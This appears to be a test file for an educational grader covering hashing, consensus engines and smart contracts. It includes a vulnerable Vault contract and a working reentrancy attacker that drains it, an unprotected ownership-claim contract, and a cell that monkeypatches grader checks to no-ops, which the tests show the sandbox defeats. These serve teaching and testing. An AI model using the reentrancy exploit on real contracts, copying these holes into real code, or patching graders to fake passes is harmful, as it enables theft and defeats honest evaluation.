"""grader.checks on real engines, a real EVM and real sandboxes: what passes, what fails and how
the failure reads (it is what a learner sees in feedback)."""

from __future__ import annotations

import hashlib
import os
import textwrap
from typing import Any

import pytest

from grader.checks import consensus, contracts, hashing
from grader.executor import CellSpec, Limits, execute, leftover_pids, uids_taken
from labs.minichain.consensus.tbft import TBFTEngine
from labs.minichain.sim import Simulation
from tests.labs.simparams import TBFT_FAST


def sha256_hex(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


# ------------------------------------------------------------------------------------- hashing


def test_hashing_passes_a_correct_function_and_names_the_smallest_counterexample() -> None:
    hashing.check_function(sha256_hex, sha256_hex, hashing.messages(), name="sha256_hex")

    def padding_bug(data: bytes) -> str:  # wrong from one block's length field on
        return sha256_hex(data[:-1] if len(data) >= 56 else data)

    with pytest.raises(AssertionError) as err:
        hashing.check_function(padding_bug, sha256_hex, hashing.messages(), name="sha256_hex")
    message = str(err.value)
    assert message.startswith("sha256_hex(b'\\x00' * 56) returned '"), message
    assert sha256_hex(b"\0" * 56) in message and "\n" not in message


def test_hashing_judges_plain_values_only() -> None:
    class Liar(str):
        def __eq__(self, other: object) -> bool:
            return True

        __hash__ = str.__hash__

    with pytest.raises(AssertionError, match="is a Liar; return plain data"):
        hashing.check_function(lambda d: Liar("x"), sha256_hex, hashing.messages(), name="h")
    with pytest.raises(AssertionError, match=r"h\(b''\) raised ZeroDivisionError"):
        hashing.check_function(lambda d: 1 / 0, sha256_hex, hashing.messages(), name="h")
    with pytest.raises(AssertionError, match="h is not a function"):
        not_a_function: Any = 42  # Any: the check is for what a learner may really pass
        hashing.check_function(not_a_function, sha256_hex, hashing.messages(), name="h")
    # Two arguments, bytearray accepted as bytes, and the reference's exception must be matched.
    hashing.check_function(
        lambda a, b: bytearray(hashlib.sha256(a + b).digest()),
        lambda a, b: hashlib.sha256(a + b).digest(),
        hashing.messages(80),
        hashing.strategies.binary(max_size=8),
    )

    def strict(n: int) -> int:
        if n < 0:
            raise ValueError("negative")
        return n

    with pytest.raises(
        AssertionError, match=r"f\(-1\) returned -1, but it should raise ValueError"
    ):
        hashing.check_function(lambda n: n, strict, hashing.strategies.integers(), name="f")


# ----------------------------------------------------------------------------------- consensus


class OneVoteTBFT(TBFTEngine):
    """A broken engine: one vote is a 'quorum', so a split network forks."""

    @staticmethod
    def quorum(n: int) -> int:
        return 1


def test_consensus_passes_tbft_under_every_fault_schedule() -> None:
    runs = consensus.check_engine(
        "tbft", params=TBFT_FAST, seeds=range(8), faults=consensus.FAULTS, height=4
    )
    assert len(runs) == 8 * len(consensus.FAULTS)
    assert all(r.safe for r in runs)
    raft = consensus.check_engine("raft", n=3, seeds=range(5), faults=("none", "crash"))
    assert len(raft) == 10


def test_consensus_failure_names_the_seed_and_a_replay_that_reproduces_it() -> None:
    with pytest.raises(AssertionError) as err:
        consensus.check_engine(
            OneVoteTBFT, params=TBFT_FAST, seeds=range(20), faults=("partition",)
        )
    message = str(err.value)
    assert message.startswith("safety: "), message
    assert "under 'partition' (seed " in message and "replay: " in message
    replay = message.split("replay: ", 1)[1]
    assert replay.startswith("s = Simulation('tests.grader.test_checks:OneVoteTBFT', seed=")
    scope: dict = {"Simulation": Simulation}
    exec(replay, scope)  # noqa: S102 - the very line a learner would paste
    assert scope["s"].violations[0] in message  # the replayed run forks the same way


def test_consensus_liveness_and_crashing_engines() -> None:
    with pytest.raises(AssertionError, match=r"liveness: under 'none' \(seed 0\) honest"):
        consensus.check_engine("solo", n=4, seeds=range(2), faults=("none",))

    class Raises(TBFTEngine):
        def on_timer(self, tag: tuple) -> None:
            raise KeyError("round")

    with pytest.raises(AssertionError, match=r"the engine raised KeyError: 'round' under 'none'"):
        consensus.check_engine(Raises, params=TBFT_FAST, seeds=range(1), faults=("none",))
    with pytest.raises(AssertionError, match="not a ConsensusEngine subclass|expected a"):
        not_an_engine: Any = dict  # Any: the check is for what a learner may really pass
        consensus.check_engine(not_an_engine, seeds=range(1))


def test_consensus_judges_the_chains_not_the_simulators_bookkeeping() -> None:
    class Hides(OneVoteTBFT):
        """Forks, then wipes the simulator's record of it."""

        def on_message(self, sender: str, msg: object) -> None:
            super().on_message(sender, msg)
            self.host.sim.violations.clear()

    with pytest.raises(AssertionError, match="safety: fork at height"):
        consensus.check_engine(Hides, params=TBFT_FAST, seeds=range(20), faults=("partition",))


# ----------------------------------------------------------------------------------- contracts

TOKEN = """
pragma solidity ^0.8.20;
contract Token {
    mapping(address => uint256) public balanceOf;
    constructor(uint256 supply) { balanceOf[msg.sender] = supply; }
    function transfer(address to, uint256 amount) external returns (bool) {
        require(balanceOf[msg.sender] >= amount, "insufficient balance");
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}
"""
VAULT = """
pragma solidity ^0.8.20;
contract Vault {
    mapping(address => uint256) public deposits;
    function deposit() external payable { deposits[msg.sender] += msg.value; }
    function withdraw() external {
        uint256 amount = deposits[msg.sender];
        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "send failed");
        deposits[msg.sender] = 0;
    }
}
"""
ATTACKER = """
pragma solidity ^0.8.20;
interface IVault { function deposit() external payable; function withdraw() external; }
contract Attacker {
    IVault vault;
    constructor(address target) { vault = IVault(target); }
    function attack() external payable { vault.deposit{value: msg.value}(); vault.withdraw(); }
    receive() external payable {
        if (msg.value > 0 && address(vault).balance >= msg.value) vault.withdraw();
    }
}
"""
OWNED_VY = """
# pragma version ^0.4.0
owner: public(address)

@deploy
def __init__():
    self.owner = msg.sender

@external
def claim():
    self.owner = msg.sender
"""


def test_contracts_behaviour_reverts_and_gas_report() -> None:
    chain = contracts.Chain()
    token = chain.deploy(TOKEN, "Token", 1000, sender="alice")
    chain.transact(token, "transfer", chain.address("bob"), 10, sender="alice")
    chain.assert_call(token, "balanceOf", chain.address("bob"), expect=10)
    chain.assert_reverts(
        token, "transfer", chain.address("bob"), 5, sender="carol", reason="insufficient"
    )
    with pytest.raises(AssertionError, match=r"Token.transfer failed: .*insufficient balance"):
        chain.transact(token, "transfer", chain.address("bob"), 5, sender="carol")
    with pytest.raises(
        AssertionError, match=r"balanceOf\('0x[0-9a-fA-F]{40}'\) returned 10, expected 11"
    ):
        chain.assert_call(token, "balanceOf", chain.address("bob"), expect=11)
    with pytest.raises(AssertionError, match="has no function 'mint' .it has: balanceOf, transfer"):
        chain.transact(token, "mint", 5)
    report = chain.gas_report()
    assert (
        report["Token.transfer"]["calls"] == 1 and 30_000 < report["Token.transfer"]["max"] < 60_000
    )
    assert "Token.<deploy>" in report
    chain.assert_gas_at_most("Token.transfer", 60_000)
    with pytest.raises(AssertionError, match=r"Token.transfer used \d+ gas, more than the 1000"):
        chain.assert_gas_at_most("Token.transfer", 1000)
    with pytest.raises(AssertionError, match=r"does not compile: Contract.sol:1:\d+: SyntaxError"):
        chain.deploy("pragma solidity ^0.8.0; contract X { function f() { } }")


def test_contracts_exploit_drains_the_victim_and_takes_ownership() -> None:
    chain = contracts.Chain()
    vault = chain.deploy(VAULT, "Vault")
    chain.transact(vault, "deposit", sender="victim", value=10**18)
    attacker = chain.deploy(ATTACKER, "Attacker", vault.address, sender="attacker")
    with chain.snapshot():  # a 0-wei "attack" drains nothing: the check would fail
        chain.transact(attacker, "attack", sender="attacker", value=0)
        with pytest.raises(AssertionError, match=r"the vault still holds ether"):
            chain.assert_balance(vault.address, 0, "the vault still holds ether")
    chain.transact(attacker, "attack", sender="attacker", value=10**17)
    chain.assert_balance(vault.address, 0, "the vault still holds ether")
    assert chain.balance(attacker.address) == 11 * 10**17

    owned = chain.deploy(OWNED_VY, "Owned", sender="alice")
    chain.assert_call(owned, "owner", expect=chain.address("alice"))
    chain.transact(owned, "claim", sender="attacker")
    chain.assert_call(owned, "owner", expect=chain.address("attacker"))


# ------------------------------------------------------------------- inside the grading sandbox

LEARNER = '''
import hashlib
def sha256_hex(data):
    return hashlib.sha256(data[:55]).hexdigest()   # wrong beyond one block

from labs.minichain.consensus.tbft import TBFTEngine
class MyBFT(TBFTEngine):
    pass

ATTACK = """{attacker}"""
'''
PATCH_CHECKER = """
import grader.checks.hashing as h, hypothesis
h.check_function = lambda *a, **k: None
hypothesis.given = lambda *a, **k: (lambda f: (lambda: None))
"""
HIDDEN_HASH = """
import hashlib
from grader.checks.hashing import check_function, messages
check_function(sha256_hex, lambda d: hashlib.sha256(d).hexdigest(), messages(), name="sha256_hex")
"""
HIDDEN_CONSENSUS = f"""
from grader.checks.consensus import check_engine
check_engine(MyBFT, params={TBFT_FAST!r}, seeds=range(3), faults=("crash", "byzantine"))
"""
HIDDEN_CONTRACT = f"""
from grader.checks.contracts import Chain
chain = Chain()
vault = chain.deploy('''{VAULT}''', "Vault")
chain.transact(vault, "deposit", sender="victim", value=10**18)
attacker = chain.deploy(ATTACK, "Attacker", vault.address, sender="attacker")
chain.transact(attacker, "attack", sender="attacker", value=10**17)
chain.assert_balance(vault.address, 0, "the vault still holds ether")
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="the grading sandbox needs root")
def test_checkers_run_in_the_sandbox_and_a_patched_checker_changes_nothing() -> None:
    cells = [
        CellSpec(LEARNER.format(attacker=ATTACKER)),
        CellSpec(PATCH_CHECKER),
        CellSpec(HIDDEN_HASH, hidden=True),
        CellSpec(HIDDEN_CONSENSUS, hidden=True),
        CellSpec(HIDDEN_CONTRACT, hidden=True),
        CellSpec(textwrap.dedent(PATCH_CHECKER).replace("h.check", "h.check")),
        CellSpec(
            HIDDEN_HASH.replace("sha256_hex,", "lambda d: hashlib.sha256(d).hexdigest(),"),
            hidden=True,
        ),
    ]
    out = execute(cells, limits=Limits(cell_timeout=60.0, submission_timeout=180.0))
    assert [o.status for o in out] == ["ok", "ok", "error", "ok", "ok", "ok", "ok"], out
    assert out[2].error["ename"] == "AssertionError"
    assert out[2].error["evalue"].startswith("sha256_hex(b'\\x00' * 56) returned '")
    assert leftover_pids(uids_taken()) == []
